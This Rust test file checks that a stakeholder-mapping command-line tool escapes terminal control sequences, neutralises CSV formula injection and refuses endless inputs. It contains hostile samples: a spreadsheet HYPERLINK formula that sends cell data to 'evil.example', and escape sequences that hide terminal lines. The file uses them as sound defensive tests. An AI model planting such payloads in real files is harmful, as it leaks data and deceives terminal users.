//! Hostile spreadsheets and terminals, through the built binary: formula cells in CSV
//! exports, line numbers with CRLF and CR line ends, European and Windows spreadsheets,
//! inputs that never end (a device, a pipe), and control characters that would drive the
//! terminal.

mod binary;

use std::fs;
use std::io::Write;
use std::path::Path;

use astute::io::{read_map, to_ron_string};
use astute::model::{Id, Link, LinkKind, Map, Stakeholder};
use binary::*;

/// A name that, printed raw, returns to the line's start, erases it and moves up a line:
/// it hides the line above from whoever reads the terminal.
const HIDES_A_LINE: &str = "Evil\r\x1b[2K\x1b[1A";

/// Names a terminal would obey rather than show, and one it must show as it is.
fn hostile_names() -> [&'static str; 5] {
    [
        HIDES_A_LINE,
        "Red \x1b[31malert\x1b[0m",
        // C1 CSI (U+009B), DEL, a bell and a backspace.
        "C1 \u{9b}2J DEL\u{7f} bell\x07 back\x08",
        // A right-to-left override turns the rest of the line round.
        "Bidi \u{202e}gninrael",
        "Café Ångström, Łódź",
    ]
}

fn person(raw: u64, name: &str) -> Stakeholder {
    Stakeholder::new(Id::from_raw(raw), name)
}

fn write(dir: &Path, name: &str, map: &Map) -> Result<(), Box<dyn std::error::Error>> {
    fs::write(dir.join(name), to_ron_string(map)?)?;
    Ok(())
}

/// Fails when `text` holds anything that drives a terminal.
fn assert_terminal_safe(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || c == '\u{2066}'
        })
        .collect();
    assert!(bad.is_empty(), "{what} printed {bad:?} raw:\n{text}");
}

#[test]
fn control_characters_in_names_are_shown_escaped_in_every_text_output() -> TestResult {
    let dir = tempfile::tempdir()?;
    let mut before = Map::new("Hub \x1b]0;pwned\x07");
    before.stakeholders = vec![person(1, "Office of the PCC"), person(2, "Police")];
    before.links = vec![Link::new(
        Id::from_raw(10),
        Id::from_raw(1),
        Id::from_raw(2),
        LinkKind::Alliance,
    )];
    let mut after = before.clone();
    for (i, name) in hostile_names().into_iter().enumerate() {
        after.stakeholders.push(person(20 + i as u64, name));
    }
    after.stakeholders[1].name = format!("Police{HIDES_A_LINE}");
    write(dir.path(), "before.ron", &before)?;
    write(dir.path(), "after.ron", &after)?;

    let diff = astute(dir.path(), &["diff", "before.ron", "after.ron"])?;
    assert_eq!(code(&diff), Some(0), "{}", stderr(&diff));
    let text = stdout(&diff);
    assert_terminal_safe("diff", &text);
    // Each name on its own line, escaped, with ordinary letters as they are.
    assert!(
        text.contains("Added: Evil\\u000d\\u001b[2K\\u001b[1A\n"),
        "{text}"
    );
    assert!(
        text.contains("Added: Red \\u001b[31malert\\u001b[0m\n"),
        "{text}"
    );
    assert!(
        text.contains("Added: C1 \\u009b2J DEL\\u007f bell\\u0007 back\\u0008\n"),
        "{text}"
    );
    assert!(text.contains("Added: Bidi \\u202egninrael\n"), "{text}");
    assert!(text.contains("Added: Café Ångström, Łódź\n"), "{text}");
    assert!(text.contains("Renamed: Police → Police"), "{text}");
    let lines = text.lines().count();
    assert_eq!(lines, 1 + hostile_names().len() + 1, "{text}");

    for args in [&["analyse", "after.ron"][..], &["stats", "after.ron"][..]] {
        let out = astute(dir.path(), args)?;
        assert_eq!(code(&out), Some(0), "{}", stderr(&out));
        assert_terminal_safe(args[0], &stdout(&out));
        assert_terminal_safe(args[0], &stderr(&out));
    }
    let analysis = stdout(&astute(dir.path(), &["analyse", "after.ron"])?);
    assert!(analysis.contains("Evil\\u000d\\u001b[2K"), "{analysis}");
    let stats = stdout(&astute(dir.path(), &["stats", "after.ron"])?);
    assert!(
        stats.starts_with("after.ron: Hub \\u001b]0;pwned\\u0007\n"),
        "{stats}"
    );
    Ok(())
}

#[test]
fn json_output_stays_valid_and_keeps_the_names_exactly() -> TestResult {
    let dir = tempfile::tempdir()?;
    let before = Map::new("Hub");
    let mut after = before.clone();
    for (i, name) in hostile_names().into_iter().enumerate() {
        after.stakeholders.push(person(20 + i as u64, name));
    }
    write(dir.path(), "before.ron", &before)?;
    write(dir.path(), "after.ron", &after)?;
    let out = astute(dir.path(), &["diff", "before.ron", "after.ron", "--json"])?;
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    assert_terminal_safe("diff --json", &text);
    let json: serde_json::Value = serde_json::from_str(&text)?;
    let added: Vec<&str> = json["added"]
        .as_array()
        .ok_or("no `added` list")?
        .iter()
        .filter_map(|s| s["name"].as_str())
        .collect();
    assert_eq!(added, hostile_names());

    let out = astute(dir.path(), &["analyse", "after.ron", "--json"])?;
    assert_terminal_safe("analyse --json", &stdout(&out));
    let json: serde_json::Value = serde_json::from_str(&stdout(&out))?;
    assert!(json.to_string().contains("\\u001b[31malert"), "{json}");
    assert!(json.to_string().contains("\u{9b}2J"), "{json}");
    Ok(())
}

#[test]
fn control_characters_in_messages_are_shown_escaped() -> TestResult {
    let dir = tempfile::tempdir()?;
    // A problem in a map names the stakeholder.
    let mut map = Map::new("Hub");
    let mut s = person(1, HIDES_A_LINE);
    s.stance = 7;
    map.stakeholders = vec![s];
    write(dir.path(), "bad.ron", &map)?;
    // A file name that holds an escape.
    let out = astute(dir.path(), &["check", "bad.ron", "gone\x1b[8m.ron"])?;
    assert_eq!(code(&out), Some(1));
    let text = stderr(&out);
    assert_terminal_safe("check", &text);
    assert!(
        text.contains("stakeholder \"Evil\\u000d\\u001b[2K\\u001b[1A\": stance 7"),
        "{text}"
    );
    assert!(
        text.contains("gone\\u001b[8m.ron: cannot read the file"),
        "{text}"
    );
    assert_eq!(text.lines().count(), 2, "{text}");

    // Import messages quote the cells.
    fs::write(
        dir.path().join("people.csv"),
        "name,power\nPolice,\x1b[2Jeleven\n\x1b[31mVS\x1b[0m,5\nx\x1b[31mVS\x1b[0m,5\n",
    )?;
    fs::write(
        dir.path().join("links.csv"),
        "from,to,kind\nPolice,\x1b[1Anobody,tension\n",
    )?;
    let args = [
        "import",
        "people.csv",
        "--links",
        "links.csv",
        "-o",
        "out.ron",
    ];
    let out = astute(dir.path(), &args)?;
    assert_eq!(code(&out), Some(1));
    let text = stderr(&out);
    assert_terminal_safe("import", &text);
    assert!(
        text.contains("people.csv:2:2: power `\\u001b[2Jeleven`"),
        "{text}"
    );
    assert!(
        text.contains("links.csv:2:2: no stakeholder is called \"\\u001b[1Anobody\""),
        "{text}"
    );
    Ok(())
}

#[test]
fn crlf_and_cr_only_files_are_reported_at_the_right_lines() -> TestResult {
    let dir = tempfile::tempdir()?;
    for (name, text) in [
        ("crlf.csv", "name,power\r\nA,5\r\nB,x\r\n"),
        ("cr.csv", "name,power\rA,5\rB,x\r"),
    ] {
        fs::write(dir.path().join(name), text)?;
        let out = astute(dir.path(), &["import", name, "-o", "out.ron"])?;
        assert_eq!(code(&out), Some(1));
        assert_eq!(
            stderr(&out),
            format!(
                "{name}:3:2: power `x` is not a number from 0 to 10\n\
                 out.ron: not written: 1 problem(s) in the spreadsheet\n"
            )
        );
    }
    Ok(())
}

#[test]
fn european_excel_and_windows_files_are_imported_and_the_encoding_is_told() -> TestResult {
    let dir = tempfile::tempdir()?;
    // Excel's plain "CSV" as a French or German Excel writes it: semicolons, Windows-1252.
    let people = b"Name;Organisation;Power;Tags\r\nCaf\xe9 Aid;Caf\xe9 Aid \x96 Nord;6;\"charity; food\"\r\nPolice;Northshire;8;\r\n";
    fs::write(dir.path().join("people.csv"), people)?;
    let links = "from;to;kind\r\nPolice;Café Aid;referral\r\n";
    let links: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(links.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    fs::write(dir.path().join("links.csv"), links)?;
    let args = [
        "import",
        "people.csv",
        "--links",
        "links.csv",
        "-o",
        "hub.ron",
    ];
    let out = astute(dir.path(), &args)?;
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let warnings = stderr(&out);
    assert!(
        warnings.contains(
            "people.csv:1: warning: the file is not UTF-8 text, so it was read as Windows-1252"
        ),
        "{warnings}"
    );
    assert!(
        warnings.contains("links.csv:1: warning: the file is UTF-16 text"),
        "{warnings}"
    );
    let map = read_map(&dir.path().join("hub.ron"))?.map;
    let s = &map.stakeholders;
    assert_eq!(s[0].name, "Café Aid");
    assert_eq!(s[0].organisation, "Café Aid – Nord");
    assert_eq!(s[0].tags, ["charity", "food"]);
    assert_eq!(map.links.len(), 1);
    Ok(())
}

#[test]
fn an_unclosed_quote_is_reported_with_its_line() -> TestResult {
    let dir = tempfile::tempdir()?;
    fs::write(
        dir.path().join("people.csv"),
        "name,notes,power\nA,,5\nB,\"Leads the hub,5\nC,,6\n",
    )?;
    let out = astute(dir.path(), &["import", "people.csv", "-o", "out.ron"])?;
    assert_eq!(code(&out), Some(1));
    let text = stderr(&out);
    assert!(
        text.starts_with("people.csv:3:2: this quote is never closed"),
        "{text}"
    );
    assert!(!text.contains("fields but the header has"), "{text}");
    assert!(!dir.path().join("out.ron").exists());
    Ok(())
}

#[cfg(unix)]
#[test]
fn a_device_that_never_ends_is_refused_at_the_limit() -> TestResult {
    let dir = tempfile::tempdir()?;
    let out = astute(dir.path(), &["import", "/dev/zero", "-o", "z.ron"])?;
    assert_eq!(code(&out), Some(1));
    assert_eq!(
        stderr(&out),
        "/dev/zero: more than 64 MB came out of it, far more than any map or table holds, so \
         reading stopped there: it is probably a device or a pipe, not a table\n"
    );
    assert!(!dir.path().join("z.ron").exists());
    // The links table is read with the same limit.
    fs::write(dir.path().join("people.csv"), "name\nPolice\n")?;
    let args = [
        "import",
        "people.csv",
        "--links",
        "/dev/zero",
        "-o",
        "z.ron",
    ];
    let out = astute(dir.path(), &args)?;
    assert_eq!(code(&out), Some(1));
    assert!(stderr(&out).starts_with("/dev/zero: more than 64 MB"));
    Ok(())
}

/// Makes a named pipe at `path` with the system's `mkfifo`.
#[cfg(unix)]
fn make_fifo(path: &Path) -> TestResult {
    let status = std::process::Command::new("mkfifo").arg(path).status()?;
    assert!(status.success(), "mkfifo {}: {status}", path.display());
    Ok(())
}

/// Writes `chunk` into the pipe at `path`, `times` times (`None`: until the reader closes
/// it), from another thread; gives back how many bytes went in.
#[cfg(unix)]
fn feed(
    path: &Path,
    chunk: Vec<u8>,
    times: Option<usize>,
) -> std::thread::JoinHandle<std::io::Result<u64>> {
    let path = path.to_owned();
    std::thread::spawn(move || {
        // Opening a pipe for writing waits until a reader has opened it.
        let mut pipe = fs::OpenOptions::new().write(true).open(&path)?;
        let mut written = 0;
        // Every byte the pipe took is counted, also those of a chunk cut short when the
        // reader closed its end (write_all would lose them, and the count fall under the limit).
        for _ in 0..times.unwrap_or(usize::MAX) {
            let mut rest = &chunk[..];
            while !rest.is_empty() {
                match pipe.write(rest) {
                    Ok(n) => {
                        written += n as u64;
                        rest = &rest[n..];
                    }
                    Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                    Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => return Ok(written),
                    Err(e) => return Err(e),
                }
            }
        }
        Ok(written)
    })
}

#[cfg(unix)]
#[test]
fn a_pipe_is_imported_and_one_that_never_ends_is_refused() -> TestResult {
    let dir = tempfile::tempdir()?;
    let pipe = dir.path().join("people.csv");
    make_fifo(&pipe)?;

    let writer = feed(&pipe, b"name\nPolice\n".to_vec(), Some(1));
    let out = astute(dir.path(), &["import", "people.csv", "-o", "hub.ron"])?;
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(writer.join().map_err(|_| "writer panicked")??, 12);
    assert_eq!(
        read_map(&dir.path().join("hub.ron"))?
            .map
            .stakeholders
            .len(),
        1
    );

    let writer = feed(&pipe, b"name\n".repeat(1 << 14), None);
    let out = astute(dir.path(), &["import", "people.csv", "-o", "endless.ron"])?;
    assert_eq!(code(&out), Some(1));
    assert!(
        stderr(&out).starts_with("people.csv: more than 64 MB came out of it"),
        "{}",
        stderr(&out)
    );
    // The writer stopped when astute closed the pipe, just past the limit.
    let written = writer.join().map_err(|_| "writer panicked")??;
    assert!(written > astute::io::MAX_FILE_BYTES, "{written}");
    assert!(written < 2 * astute::io::MAX_FILE_BYTES, "{written}");
    assert!(!dir.path().join("endless.ron").exists());
    Ok(())
}

#[test]
fn a_csv_export_runs_no_formula_and_imports_back_exactly() -> TestResult {
    let dir = tempfile::tempdir()?;
    let names = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Open\")",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "'=quoted already",
        "Police",
    ];
    let mut map = Map::new("Hub");
    for (i, name) in names.into_iter().enumerate() {
        let mut s = person(1 + i as u64, name);
        s.notes = name.into();
        s.stance = -2;
        map.stakeholders.push(s);
    }
    map.links = vec![Link::new(
        Id::from_raw(100),
        Id::from_raw(1),
        Id::from_raw(2),
        LinkKind::Tension,
    )];
    write(dir.path(), "hub.ron", &map)?;
    let out = astute(
        dir.path(),
        &["export", "hub.ron", "--to", "csv", "-o", "partners.csv"],
    )?;
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));

    // Read back as a spreadsheet reads CSV: no text cell starts a formula.
    for (file, numbers) in [
        ("partners.csv", &["power", "interest", "stance"][..]),
        ("partners-links.csv", &["strength"][..]),
    ] {
        let mut reader = csv::Reader::from_path(dir.path().join(file))?;
        let header = reader.headers()?.clone();
        for record in reader.records() {
            for (column, cell) in header.iter().zip(record?.iter()) {
                if numbers.contains(&column) {
                    assert!(cell.parse::<f64>().is_ok(), "{file} {column}: {cell:?}");
                } else {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{file} {column}: {cell:?}"
                    );
                }
            }
        }
    }

    let args = [
        "import",
        "partners.csv",
        "--links",
        "partners-links.csv",
        "-o",
        "again.ron",
    ];
    let out = astute(dir.path(), &args)?;
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let again = read_map(&dir.path().join("again.ron"))?.map;
    let found: Vec<(&str, &str, i8)> = again
        .stakeholders
        .iter()
        .map(|s| (s.name.as_str(), s.notes.as_str(), s.stance))
        .collect();
    let want: Vec<(&str, &str, i8)> = names.iter().map(|&n| (n, n, -2)).collect();
    assert_eq!(found, want);
    let link = &again.links[0];
    assert_eq!(
        (again.name_of(link.from), again.name_of(link.to)),
        (names[0], names[1])
    );
    Ok(())
}
